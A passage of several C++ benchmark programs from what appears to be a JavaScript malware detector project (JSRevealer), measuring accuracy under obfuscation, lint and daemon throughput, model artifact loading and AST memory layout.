// detectors, unobfuscated and per obfuscator.
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto cfg = bench::default_harness_config();
  const bench::ResultGrid grid =
      bench::run_grid(cfg, bench::standard_factories(cfg));

  std::printf("TABLE V: accuracy (%%) per detector and obfuscator\n");
  std::printf("paper: JSRevealer 99.4/86.7/83.3/73.6/94.2; baselines drop "
              "hard on the obfuscated columns\n\n");

  std::vector<std::string> header = {"Detector"};
  for (const auto& c : bench::condition_names()) header.push_back(c);
  Table t(header);
  for (const auto& [det, by_cond] : grid) {
    std::vector<std::string> row = {det};
    for (const auto& c : bench::condition_names()) {
      row.push_back(bench::pct(by_cond.at(c).accuracy));
    }
    t.add_row(row);
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
