// Lint-engine benchmark: per-script lint throughput (parse + analyses +
// all rules) over a synthetic corpus at 1/2/4/8 threads, asserting that
// every width produces identical diagnostics. Emits BENCH_lint.json.
//
// Scale knob: JSREV_BENCH_LINT_SCRIPTS sets the corpus size per class.
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "bench_config.h"
#include "dataset/generator.h"
#include "lint/linter.h"
#include "obs/json.h"
#include "util/string_util.h"
#include "util/table.h"
#include "util/thread_pool.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

// Order-sensitive fingerprint of one width's full diagnostic stream.
std::string fingerprint(const std::vector<lint::LintResult>& results) {
  std::string fp;
  for (const lint::LintResult& r : results) {
    if (r.parse_failed) {
      fp += "!parse;";
      continue;
    }
    for (const lint::Diagnostic& d : r.diagnostics) {
      fp += d.rule_id + ":" + std::to_string(d.line) + ";";
    }
    fp += "|";
  }
  return fp;
}

struct LintPoint {
  std::size_t threads = 1;
  double lint_ms = 0.0;
  std::size_t diagnostics = 0;
};

}  // namespace

int main() {
  const std::size_t per_class =
      bench::env_or("JSREV_BENCH_LINT_SCRIPTS", 300);

  dataset::GeneratorConfig gc;
  gc.seed = 2024;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  std::vector<std::string> sources;
  sources.reserve(corpus.samples.size());
  for (const auto& s : corpus.samples) sources.push_back(s.source);

  const lint::Linter linter;
  std::printf("lint scaling: %zu scripts, %zu rules, %zu hardware threads\n",
              sources.size(), linter.rules().size(), resolve_threads(0));

  std::vector<LintPoint> points;
  std::string baseline_fp;
  for (const std::size_t threads : {1u, 2u, 4u, 8u}) {
    LintPoint p;
    p.threads = threads;
    Timer t;
    const std::vector<lint::LintResult> results =
        linter.lint_all(sources, threads);
    p.lint_ms = t.elapsed_ms();
    for (const lint::LintResult& r : results) {
      p.diagnostics += r.diagnostics.size();
    }

    const std::string fp = fingerprint(results);
    if (baseline_fp.empty()) {
      baseline_fp = fp;
    } else if (fp != baseline_fp) {
      std::fprintf(stderr,
                   "FATAL: threads=%zu diagnostics differ from threads=1\n",
                   threads);
      return 1;
    }
    points.push_back(p);
    std::printf("  threads=%zu  lint %.0f ms  (%zu diagnostics)\n", threads,
                p.lint_ms, p.diagnostics);
  }

  Table table({"threads", "lint ms", "scripts/s", "speedup"});
  for (const LintPoint& p : points) {
    table.add_row(
        {std::to_string(p.threads), fmt(p.lint_ms, 0),
         fmt(static_cast<double>(sources.size()) * 1000.0 / p.lint_ms, 0),
         fmt(points[0].lint_ms / p.lint_ms, 2) + "x"});
  }
  std::printf("\n%s\n", table.to_string().c_str());
  std::printf("diagnostics identical across all widths: yes\n");

  obs::JsonWriter w;
  obs::write_bench_header(w, "lint");
  w.kv("scripts", static_cast<std::uint64_t>(sources.size()))
      .kv("rules", static_cast<std::uint64_t>(linter.rules().size()))
      .kv("total_diagnostics",
          static_cast<std::uint64_t>(points[0].diagnostics))
      .key("points")
      .begin_array();
  for (const LintPoint& p : points) {
    w.begin_object()
        .kv("threads", static_cast<std::uint64_t>(p.threads))
        .kv_fixed("lint_ms", p.lint_ms, 1)
        .kv_fixed("scripts_per_s",
                  static_cast<double>(sources.size()) * 1000.0 / p.lint_ms, 1)
        .kv_fixed("speedup", points[0].lint_ms / p.lint_ms, 3)
        .end_object();
  }
  w.end_array().end_object();
  std::ofstream json("BENCH_lint.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_lint.json\n");
  return 0;
}
