// Measures the jsr_serve daemon stack end to end — framing, batching, the
// connection layer — against the in-process library path, and hard-gates
// what must never regress: daemon verdicts bit-identical to library
// verdicts for every script.
//
// Two phases over a real Server on a socketpair (the exact code path of
// `jsr_serve --stdio` and the socket modes, minus the kernel socket type):
//
//   * saturation — the client writes every request back to back and reads
//     until all responses land; best-of-N wall clock gives sustained
//     scripts/sec through the daemon, compared with the library's
//     classify_all over the same scripts.
//   * open-loop — requests are paced at ~70% of the measured saturation
//     rate (open loop: the sender never waits for responses, so queueing
//     delay is visible instead of hidden by backpressure), and per-request
//     client-side latency gives p50/p99.
//
// Timing numbers are informational (the container's single CPU makes ratio
// gates flaky); the bit-identity gate is timing-independent and always
// enforced. Emits BENCH_serve.json through the shared envelope (validated
// by `jsr_stats --validate`).
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include <sys/socket.h>
#include <unistd.h>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "obs/json.h"
#include "serve/frame.h"
#include "serve/serve.h"
#include "serve/server.h"
#include "util/timer.h"

namespace {

using namespace jsrev;
using Clock = std::chrono::steady_clock;

std::vector<std::string> build_eval_scripts(std::size_t per_class) {
  dataset::GeneratorConfig gc;
  gc.seed = 727272;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  std::vector<std::string> scripts;
  for (const auto& s : corpus.samples) scripts.push_back(s.source);
  const std::size_t obf_share = corpus.samples.size() / 2;
  for (auto kind : obf::kAllObfuscators) {
    const auto ob = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < obf_share; ++i) {
      scripts.push_back(ob->obfuscate(corpus.samples[i].source, 900 + i));
    }
  }
  return scripts;
}

/// One daemon round over `fd`: sends every script as a kClassify frame
/// (paced when `interval` is nonzero), reads until every response arrived.
/// Returns verdicts indexed like `scripts`; fills per-request latencies.
std::vector<int> run_round(int fd, const std::vector<std::string>& scripts,
                           std::chrono::duration<double> interval,
                           std::vector<double>* latency_ms,
                           double* wall_ms_out) {
  const std::size_t n = scripts.size();
  std::vector<int> verdicts(n, -1);
  std::vector<Clock::time_point> sent(n);
  latency_ms->assign(n, 0.0);

  const Timer wall;
  std::thread reader([&] {
    std::string buf;
    char chunk[64 * 1024];
    std::size_t seen = 0;
    while (seen < n) {
      const ssize_t r = ::read(fd, chunk, sizeof(chunk));
      if (r <= 0) break;
      buf.append(chunk, static_cast<std::size_t>(r));
      for (;;) {
        serve::Frame f;
        std::size_t consumed = 0;
        if (serve::decode_frame(buf, buf.size() + (64u << 20), &f,
                                &consumed) != serve::DecodeStatus::kOk) {
          break;
        }
        buf.erase(0, consumed);
        if (f.type != serve::FrameType::kVerdict || f.id == 0 ||
            f.id > n) {
          continue;
        }
        const std::size_t i = f.id - 1;
        verdicts[i] = f.payload.empty() ? -1 : f.payload[0] - '0';
        (*latency_ms)[i] = std::chrono::duration<double, std::milli>(
                               Clock::now() - sent[i])
                               .count();
        ++seen;
      }
    }
  });

  auto next_send = Clock::now();
  for (std::size_t i = 0; i < n; ++i) {
    if (interval.count() > 0.0) {
      std::this_thread::sleep_until(next_send);
      next_send += std::chrono::duration_cast<Clock::duration>(interval);
    }
    serve::Frame f;
    f.type = serve::FrameType::kClassify;
    f.id = static_cast<std::uint32_t>(i + 1);
    f.payload = scripts[i];
    const std::string bytes = serve::encode_frame(f);
    sent[i] = Clock::now();
    std::size_t off = 0;
    while (off < bytes.size()) {
      const ssize_t w = ::write(fd, bytes.data() + off, bytes.size() - off);
      if (w <= 0) break;
      off += static_cast<std::size_t>(w);
    }
  }
  reader.join();
  *wall_ms_out = wall.elapsed_ms();
  return verdicts;
}

double percentile(std::vector<double> v, double p) {
  if (v.empty()) return 0.0;
  std::sort(v.begin(), v.end());
  const auto idx = static_cast<std::size_t>(
      p * static_cast<double>(v.size() - 1) + 0.5);
  return v[std::min(idx, v.size() - 1)];
}

}  // namespace

int main() {
  const std::size_t repeats = bench::env_or("JSREV_BENCH_REPEATS", 3);
  const std::size_t train_per_class = bench::env_or("JSREV_BENCH_TRAIN", 80);
  const std::size_t eval_per_class = bench::env_or("JSREV_BENCH_CORPUS", 40);
  const bool relax_timing = std::getenv("JSREV_BENCH_ASAN_RELAX") != nullptr;

  // --- train + persist the artifact the daemon will map -------------------
  dataset::GeneratorConfig gc;
  gc.seed = 72;
  gc.benign_count = train_per_class;
  gc.malicious_count = train_per_class;
  core::Config cfg;
  cfg.seed = 72;
  std::fprintf(stderr, "[bench_serve] training on %zu+%zu scripts\n",
               gc.benign_count, gc.malicious_count);
  core::JsRevealer trainer(cfg);
  trainer.train(dataset::generate_corpus(gc));
  const std::string artifact_path = "serve_bench.jsrm";
  trainer.save_artifact_file(artifact_path);

  const std::vector<std::string> scripts = build_eval_scripts(eval_per_class);

  // --- library baseline ----------------------------------------------------
  core::ModelView library;
  library.map_file(artifact_path);
  const std::vector<int> library_verdicts = library.classify_all(scripts);
  double library_ms = 0.0;
  for (std::size_t r = 0; r < repeats; ++r) {
    Timer t;
    (void)library.classify_all(scripts);
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < library_ms) library_ms = ms;
  }

  // --- daemon over a socketpair -------------------------------------------
  const serve::ServeModel model(artifact_path);
  serve::ServeOptions opts = model.options();
  serve::Server server(model, opts);

  int sv[2];
  if (::socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0) {
    std::fprintf(stderr, "bench_serve: socketpair failed\n");
    return 1;
  }
  std::thread server_thread([&] { server.serve_fd(sv[0], sv[0]); });

  // Saturation: back-to-back requests, best-of-N wall clock.
  std::vector<double> lat_ms;
  double sat_wall_ms = 0.0;
  std::vector<int> daemon_verdicts;
  for (std::size_t r = 0; r < repeats; ++r) {
    double wall = 0.0;
    std::vector<int> v = run_round(sv[1], scripts, {}, &lat_ms, &wall);
    if (r == 0 || wall < sat_wall_ms) sat_wall_ms = wall;
    daemon_verdicts = std::move(v);
  }
  const double sat_rate =
      sat_wall_ms > 0.0
          ? static_cast<double>(scripts.size()) / (sat_wall_ms / 1000.0)
          : 0.0;

  // Open loop at ~70% of saturation: queueing is visible, not saturating.
  const double target_rate = sat_rate * 0.7;
  double open_wall_ms = 0.0;
  std::vector<double> open_lat_ms;
  const auto interval = std::chrono::duration<double>(
      target_rate > 0.0 ? 1.0 / target_rate : 0.0);
  const std::vector<int> open_verdicts =
      run_round(sv[1], scripts, interval, &open_lat_ms, &open_wall_ms);
  const double p50 = percentile(open_lat_ms, 0.50);
  const double p99 = percentile(open_lat_ms, 0.99);

  // Graceful stop: QUIT drains, BYE confirms.
  {
    serve::Frame f;
    f.type = serve::FrameType::kQuit;
    const std::string bytes = serve::encode_frame(f);
    (void)!::write(sv[1], bytes.data(), bytes.size());
  }
  server_thread.join();
  ::close(sv[0]);
  ::close(sv[1]);

  // --- the hard gate: daemon == library, verdict for verdict ---------------
  const bool identical = daemon_verdicts == library_verdicts &&
                         open_verdicts == library_verdicts;
  std::printf("bench_serve: %zu scripts through the daemon\n", scripts.size());
  std::printf("  library classify_all   %9.1f ms (best of %zu)\n", library_ms,
              repeats);
  std::printf("  daemon saturation      %9.1f ms  -> %.1f scripts/sec\n",
              sat_wall_ms, sat_rate);
  std::printf("  open loop @ %.0f/sec: p50 %.2f ms, p99 %.2f ms\n",
              target_rate, p50, p99);
  std::printf("  verdict bit-identity daemon vs library: %s\n",
              identical ? "ok" : "FAIL");

  // --- envelope -----------------------------------------------------------
  obs::JsonWriter w;
  obs::write_bench_header(w, "serve");
  w.kv("eval_scripts", static_cast<std::uint64_t>(scripts.size()))
      .kv("repeats", static_cast<std::uint64_t>(repeats))
      .kv_fixed("library_classify_ms", library_ms, 2)
      .kv_fixed("daemon_saturation_ms", sat_wall_ms, 2)
      .kv_fixed("daemon_scripts_per_sec", sat_rate, 1)
      .kv_fixed("open_loop_rate_per_sec", target_rate, 1)
      .kv_fixed("open_loop_p50_ms", p50, 3)
      .kv_fixed("open_loop_p99_ms", p99, 3)
      .kv("verdicts_bit_identical", identical)
      .kv("timing_gate_relaxed", relax_timing)
      .end_object();
  std::ofstream json("BENCH_serve.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_serve.json\n");

  if (!identical) {
    std::printf("GATE FAIL: daemon verdicts not bit-identical to library\n");
    return 1;
  }
  std::printf("gates ok: daemon verdicts bit-identical to library\n");
  return 0;
}
