// Shared scale knobs for the bench binaries.
//
// Defaults are sized so the full `for b in build/bench/*` sweep finishes in
// tens of minutes on a laptop-class CPU. The paper's full protocol
// (20k+20k training samples, 5 repeats) can be approached by raising the
// environment variables:
//   JSREV_BENCH_CORPUS  — generated samples per class      (default 320)
//   JSREV_BENCH_TRAIN   — training samples per class       (default 220)
//   JSREV_BENCH_REPEATS — protocol repetitions to average  (default 3)
#pragma once

#include <cstdlib>
#include <string>

#include "harness.h"

namespace jsrev::bench {

inline std::size_t env_or(const char* name, std::size_t fallback) {
  const char* v = std::getenv(name);
  if (v == nullptr || *v == '\0') return fallback;
  const long parsed = std::strtol(v, nullptr, 10);
  return parsed > 0 ? static_cast<std::size_t>(parsed) : fallback;
}

inline HarnessConfig default_harness_config() {
  HarnessConfig cfg;
  cfg.benign_count = env_or("JSREV_BENCH_CORPUS", 280);
  cfg.malicious_count = cfg.benign_count;
  cfg.train_per_class = env_or("JSREV_BENCH_TRAIN", 190);
  cfg.repeats = static_cast<int>(env_or("JSREV_BENCH_REPEATS", 2));
  return cfg;
}

}  // namespace jsrev::bench
