// Gates the JSRM v3 zero-copy model artifact against the legacy stream
// loader:
//
//   * opening an artifact (map + structural validation, the per-process
//     serving path) must be >=10x faster than deserializing the stream form
//     of the same model (hard gate, waived under JSREV_BENCH_ASAN_RELAX —
//     sanitizer timings are instrumentation-dominated),
//   * mapped-view verdicts must be bit-identical to the heap detector over
//     the obfuscated evaluation grid, at thread widths 1, 2, and 8 (hard
//     gate, timing-independent, always enforced),
//   * classify throughput heap vs view is reported (expected within noise:
//     both run the same kernels; shared hardware makes a tight ratio gate
//     flaky, so the ratio itself is informational),
//   * resident-set growth of loading the stream model vs mapping the
//     artifact is reported — the mapped pages are shared page cache, so each
//     extra serving process pays close to zero private bytes.
//
// Emits BENCH_model_io.json through the shared envelope (validated by
// `jsr_stats --validate`).
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "obs/json.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

constexpr double kRequiredOpenSpeedup = 10.0;

/// VmRSS of this process in bytes (0 when /proc is unavailable).
std::size_t resident_bytes() {
  std::ifstream in("/proc/self/statm");
  std::size_t total_pages = 0, resident_pages = 0;
  if (!(in >> total_pages >> resident_pages)) return 0;
  return resident_pages * 4096;
}

std::vector<std::string> build_eval_scripts(std::size_t per_class) {
  dataset::GeneratorConfig gc;
  gc.seed = 515151;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  std::vector<std::string> scripts;
  scripts.reserve(corpus.samples.size() * 3);
  for (const auto& s : corpus.samples) scripts.push_back(s.source);
  const std::size_t obf_share = corpus.samples.size() / 2;
  for (auto kind : obf::kAllObfuscators) {
    const auto ob = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < obf_share; ++i) {
      scripts.push_back(ob->obfuscate(corpus.samples[i].source, 600 + i));
    }
  }
  return scripts;
}

}  // namespace

int main() {
  const std::size_t repeats = bench::env_or("JSREV_BENCH_REPEATS", 5);
  const std::size_t train_per_class = bench::env_or("JSREV_BENCH_TRAIN", 120);
  const bool relax_timing = std::getenv("JSREV_BENCH_ASAN_RELAX") != nullptr;

  // --- train once, persist both forms ------------------------------------
  dataset::GeneratorConfig gc;
  gc.seed = 515;
  gc.benign_count = train_per_class;
  gc.malicious_count = train_per_class;
  core::Config cfg;
  cfg.seed = 515;
  std::fprintf(stderr, "[bench_model_io] training on %zu+%zu scripts\n",
               gc.benign_count, gc.malicious_count);
  core::JsRevealer trainer(cfg);
  trainer.train(dataset::generate_corpus(gc));

  const std::string artifact_path = "model_io_bench.jsrm";
  const std::string stream_path = "model_io_bench.bin";
  trainer.save_artifact_file(artifact_path);
  trainer.save_file(stream_path);
  std::ifstream sz(artifact_path, std::ios::binary | std::ios::ate);
  const double artifact_mb =
      static_cast<double>(sz.tellg()) / (1024.0 * 1024.0);

  std::printf("bench_model_io: %.1f MiB artifact, best of %zu repeats\n",
              artifact_mb, repeats);

  // --- open cost: stream deserialization vs artifact map ------------------
  // Three variants, best-of-N each: the legacy stream parse (rebuilds every
  // heap structure), a checksum-verified map (touches every page once to
  // FNV it), and the trusted open (header + section table + index bounds
  // only) — the steady-state path of each extra serving process once the
  // artifact has been verified at publish time.
  double stream_ms = 0.0, verified_ms = 0.0, trusted_ms = 0.0;
  const std::size_t rss_before_stream = resident_bytes();
  for (std::size_t r = 0; r < repeats; ++r) {
    core::JsRevealer det{core::Config{}};
    Timer t;
    det.load_file(stream_path);
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < stream_ms) stream_ms = ms;
  }
  const std::size_t rss_after_stream = resident_bytes();
  for (std::size_t r = 0; r < repeats; ++r) {
    core::ModelView view;
    Timer t;
    view.map_file(artifact_path, /*verify_checksums=*/true);
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < verified_ms) verified_ms = ms;
  }
  const std::size_t rss_before_map = resident_bytes();
  core::ModelView view;
  for (std::size_t r = 0; r < repeats; ++r) {
    core::ModelView probe;
    Timer t;
    probe.map_file(artifact_path, /*verify_checksums=*/false);
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < trusted_ms) trusted_ms = ms;
  }
  view.map_file(artifact_path, /*verify_checksums=*/false);
  const std::size_t rss_after_map = resident_bytes();

  const double open_speedup = trusted_ms > 0.0 ? stream_ms / trusted_ms : 0.0;
  const double verified_speedup =
      verified_ms > 0.0 ? stream_ms / verified_ms : 0.0;
  const double stream_rss_mb =
      static_cast<double>(rss_after_stream - rss_before_stream) /
      (1024.0 * 1024.0) / static_cast<double>(repeats);
  const double map_rss_mb =
      static_cast<double>(rss_after_map - rss_before_map) /
      (1024.0 * 1024.0);

  std::printf("open cost (best of %zu):\n", repeats);
  std::printf("  stream load        %9.3f ms  (~%.1f MiB private heap/proc)\n",
              stream_ms, stream_rss_mb);
  std::printf("  artifact verified  %9.3f ms  (%.1fx vs stream)\n",
              verified_ms, verified_speedup);
  std::printf("  artifact trusted   %9.3f ms  (%.1fx vs stream, ~%.1f MiB "
              "private)\n",
              trusted_ms, open_speedup, map_rss_mb);

  // --- verdict bit-identity across widths (the hard gate) -----------------
  const std::vector<std::string> scripts =
      build_eval_scripts(bench::env_or("JSREV_BENCH_CORPUS", 60));
  const std::vector<int> heap_verdicts = trainer.classify_all(scripts);
  bool identical = true;
  for (const std::size_t threads :
       {std::size_t(1), std::size_t(2), std::size_t(8)}) {
    view.set_threads(threads);
    if (view.classify_all(scripts) != heap_verdicts) {
      identical = false;
      std::printf("FAIL: mapped verdicts diverge at threads=%zu\n", threads);
    }
  }
  std::printf("verdict bit-identity heap vs mapped (widths 1/2/8, %zu "
              "scripts): %s\n",
              scripts.size(), identical ? "ok" : "FAIL");

  // --- classify throughput heap vs view ----------------------------------
  view.set_threads(1);
  double heap_ms = 0.0, view_ms = 0.0;
  for (std::size_t r = 0; r < repeats; ++r) {
    Timer t;
    (void)trainer.classify_all(scripts);
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < heap_ms) heap_ms = ms;
  }
  for (std::size_t r = 0; r < repeats; ++r) {
    Timer t;
    (void)view.classify_all(scripts);
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < view_ms) view_ms = ms;
  }
  const double throughput_ratio = heap_ms > 0.0 ? view_ms / heap_ms : 0.0;
  std::printf("classify %zu scripts: heap %.1f ms, mapped %.1f ms "
              "(mapped/heap = %.2f, expected ~1.0)\n",
              scripts.size(), heap_ms, view_ms, throughput_ratio);

  // --- envelope -----------------------------------------------------------
  obs::JsonWriter w;
  obs::write_bench_header(w, "model_io");
  w.kv("train_per_class", static_cast<std::uint64_t>(train_per_class))
      .kv("eval_scripts", static_cast<std::uint64_t>(scripts.size()))
      .kv("repeats", static_cast<std::uint64_t>(repeats))
      .kv_fixed("artifact_mib", artifact_mb, 2)
      .kv_fixed("stream_load_ms", stream_ms, 3)
      .kv_fixed("artifact_open_verified_ms", verified_ms, 3)
      .kv_fixed("artifact_open_trusted_ms", trusted_ms, 3)
      .kv_fixed("open_speedup_trusted", open_speedup, 2)
      .kv_fixed("open_speedup_verified", verified_speedup, 2)
      .kv_fixed("stream_private_mib_per_proc", stream_rss_mb, 2)
      .kv_fixed("mapped_private_mib_per_proc", map_rss_mb, 2)
      .kv_fixed("classify_heap_ms", heap_ms, 2)
      .kv_fixed("classify_mapped_ms", view_ms, 2)
      .kv_fixed("classify_ratio", throughput_ratio, 3)
      .kv("verdicts_bit_identical", identical)
      .kv("timing_gate_relaxed", relax_timing)
      .end_object();
  std::ofstream json("BENCH_model_io.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_model_io.json\n");

  // --- gates --------------------------------------------------------------
  if (!identical) {
    std::printf("GATE FAIL: mapped verdicts not bit-identical\n");
    return 1;
  }
  if (!relax_timing && open_speedup < kRequiredOpenSpeedup) {
    std::printf("GATE FAIL: artifact open %.1fx vs stream, need >=%.0fx\n",
                open_speedup, kRequiredOpenSpeedup);
    return 1;
  }
  std::printf("gates ok: bit-identical verdicts, open %.1fx faster%s\n",
              open_speedup, relax_timing ? " (timing gate relaxed)" : "");
  return 0;
}
