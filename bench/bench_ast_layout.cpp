// Gates the compact index-based AST layout against the recorded
// pointer-heavy baseline (96-byte nodes, one heap child vector + string per
// node, measured on the same 500-script recipe before the refactor):
//
//   * bytes/node must be >=25% below the recorded 104.86 (hard gate),
//   * parse throughput must not collapse (soft floor; shared hardware makes
//     a tight speedup gate flaky, so the speedup itself is reported),
//   * fingerprints must be bit-identical across thread widths 1/2/8
//     (hard gate — the layout must not leak schedule into results).
//
// Emits BENCH_ast_layout.json through the shared envelope: sizeof(Node),
// bytes/node + reduction vs. baseline, parse/visit/path throughput, and the
// cross-width determinism verdict.
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "bench_config.h"
#include "dataset/generator.h"
#include "js/ast_compare.h"
#include "js/parser.h"
#include "js/visitor.h"
#include "obfuscators/obfuscator.h"
#include "obs/json.h"
#include "paths/path_extraction.h"
#include "util/string_util.h"
#include "util/table.h"
#include "util/thread_pool.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

// Pre-refactor numbers, recorded with the throwaway probe on this recipe
// (dataset seed 424242, 150+150 samples, 4 obfuscators x first 50 scripts).
constexpr double kBaselineBytesPerNode = 104.86;
constexpr double kBaselineParseNodesPerSec = 2829750.0;
constexpr double kBaselineVisitNodesPerSec = 49515018.0;
constexpr double kRequiredBytesReductionPct = 25.0;

std::vector<std::string> build_sources() {
  dataset::GeneratorConfig gc;
  gc.seed = 424242;
  gc.benign_count = 150;
  gc.malicious_count = 150;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  std::vector<std::string> sources;
  sources.reserve(corpus.samples.size() + 4 * 50);
  for (const auto& s : corpus.samples) sources.push_back(s.source);
  for (auto kind : obf::kAllObfuscators) {
    auto ob = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < 50; ++i) {
      sources.push_back(ob->obfuscate(corpus.samples[i].source, 99 + i));
    }
  }
  return sources;
}

}  // namespace

int main() {
  const std::size_t repeats = bench::env_or("JSREV_BENCH_REPEATS", 5);
  // Sanitizer builds (scripts/check.sh) run this bench for memory-safety and
  // determinism coverage; their timings are instrumentation-dominated, so the
  // throughput floors are waived. Layout gates (bytes/node, fingerprints)
  // are timing-independent and always apply.
  const bool relax_timing = std::getenv("JSREV_BENCH_ASAN_RELAX") != nullptr;
  const std::vector<std::string> sources = build_sources();
  std::printf("bench_ast_layout: %zu scripts, best of %zu repeats\n",
              sources.size(), repeats);

  // --- bytes/node + parse throughput (best-of to ride out machine noise) --
  double best_parse_ms = 0.0;
  std::size_t total_nodes = 0;
  std::size_t total_bytes = 0;
  for (std::size_t r = 0; r < repeats; ++r) {
    std::vector<js::Ast> asts;
    asts.reserve(sources.size());
    Timer t;
    for (const auto& src : sources) asts.push_back(js::parse(src));
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < best_parse_ms) best_parse_ms = ms;
    if (r == 0) {
      for (const auto& ast : asts) {
        js::walk_all(ast.root,
                     [&](const js::Node*) { ++total_nodes; });
        total_bytes += ast.arena.memory_bytes();
      }
    }
  }
  const double bytes_per_node =
      static_cast<double>(total_bytes) / static_cast<double>(total_nodes);
  const double reduction_pct =
      (1.0 - bytes_per_node / kBaselineBytesPerNode) * 100.0;
  const double parse_nodes_per_s =
      static_cast<double>(total_nodes) / (best_parse_ms / 1000.0);

  // --- full-tree visit throughput over retained, compacted trees ----------
  std::vector<js::Ast> asts;
  asts.reserve(sources.size());
  for (const auto& src : sources) asts.push_back(js::parse(src));
  double best_visit_ms = 0.0;
  std::size_t visited_per_rep = 0;
  for (std::size_t r = 0; r < repeats; ++r) {
    std::size_t visited = 0;
    Timer t;
    for (const auto& ast : asts) {
      js::walk_all(ast.root, [&](const js::Node*) { ++visited; });
    }
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < best_visit_ms) best_visit_ms = ms;
    visited_per_rep = visited;
  }
  const double visit_nodes_per_s =
      static_cast<double>(visited_per_rep) / (best_visit_ms / 1000.0);

  // --- path extraction throughput (the detector's traversal hot loop) ----
  double best_paths_ms = 0.0;
  std::size_t total_paths = 0;
  for (std::size_t r = 0; r < repeats; ++r) {
    std::size_t paths = 0;
    Timer t;
    for (const auto& ast : asts) {
      paths += paths::extract_paths(ast.root, nullptr).size();
    }
    const double ms = t.elapsed_ms();
    if (r == 0 || ms < best_paths_ms) best_paths_ms = ms;
    total_paths = paths;
  }
  const double paths_scripts_per_s =
      static_cast<double>(asts.size()) / (best_paths_ms / 1000.0);

  // --- fingerprint determinism across thread widths -----------------------
  const std::size_t widths[] = {1, 2, 8};
  std::vector<std::uint64_t> reference;
  bool widths_identical = true;
  for (const std::size_t w : widths) {
    std::vector<std::uint64_t> fps(sources.size());
    parallel_for_threads(w, sources.size(), [&](std::size_t i) {
      const js::Ast ast = js::parse(sources[i]);
      fps[i] = js::ast_fingerprint(ast.root);
    });
    if (reference.empty()) {
      reference = fps;
    } else if (fps != reference) {
      widths_identical = false;
      std::fprintf(stderr, "FAIL: fingerprints diverge at width %zu\n", w);
    }
  }

  Table table({"measure", "value", "baseline", "delta"});
  table.add_row({"sizeof(Node)", std::to_string(sizeof(js::Node)), "96",
                 fmt((1.0 - sizeof(js::Node) / 96.0) * 100.0, 1) + "%"});
  table.add_row({"bytes/node", fmt(bytes_per_node, 2),
                 fmt(kBaselineBytesPerNode, 2),
                 "-" + fmt(reduction_pct, 1) + "%"});
  table.add_row({"parse nodes/s", fmt(parse_nodes_per_s / 1e6, 2) + "M",
                 fmt(kBaselineParseNodesPerSec / 1e6, 2) + "M",
                 fmt((parse_nodes_per_s / kBaselineParseNodesPerSec - 1.0) *
                         100.0,
                     1) +
                     "%"});
  table.add_row({"visit nodes/s", fmt(visit_nodes_per_s / 1e6, 2) + "M",
                 fmt(kBaselineVisitNodesPerSec / 1e6, 2) + "M",
                 fmt((visit_nodes_per_s / kBaselineVisitNodesPerSec - 1.0) *
                         100.0,
                     1) +
                     "%"});
  table.add_row({"paths scripts/s", fmt(paths_scripts_per_s, 0), "-", "-"});
  std::printf("\n%s\n", table.to_string().c_str());

  obs::JsonWriter w;
  obs::write_bench_header(w, "ast_layout");
  w.kv("scripts", static_cast<std::uint64_t>(sources.size()))
      .kv("repeats", static_cast<std::uint64_t>(repeats))
      .kv("nodes", static_cast<std::uint64_t>(total_nodes))
      .kv("paths", static_cast<std::uint64_t>(total_paths))
      .kv("sizeof_node", static_cast<std::uint64_t>(sizeof(js::Node)))
      .kv_fixed("bytes_per_node", bytes_per_node, 2)
      .kv_fixed("baseline_bytes_per_node", kBaselineBytesPerNode, 2)
      .kv_fixed("bytes_per_node_reduction_pct", reduction_pct, 1)
      .kv_fixed("parse_nodes_per_s", parse_nodes_per_s, 0)
      .kv_fixed("baseline_parse_nodes_per_s", kBaselineParseNodesPerSec, 0)
      .kv_fixed("visit_nodes_per_s", visit_nodes_per_s, 0)
      .kv_fixed("baseline_visit_nodes_per_s", kBaselineVisitNodesPerSec, 0)
      .kv_fixed("paths_scripts_per_s", paths_scripts_per_s, 1)
      .kv("fingerprints_identical_widths_1_2_8", widths_identical)
      .end_object();
  std::ofstream json("BENCH_ast_layout.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_ast_layout.json\n");

  bool ok = true;
  if (reduction_pct < kRequiredBytesReductionPct) {
    std::fprintf(stderr, "FAIL: bytes/node reduction %.1f%% < %.1f%%\n",
                 reduction_pct, kRequiredBytesReductionPct);
    ok = false;
  }
  // Soft floor, not a speedup gate: CI neighbors can eat a run, but a real
  // layout regression shows up as a collapse, not a wobble.
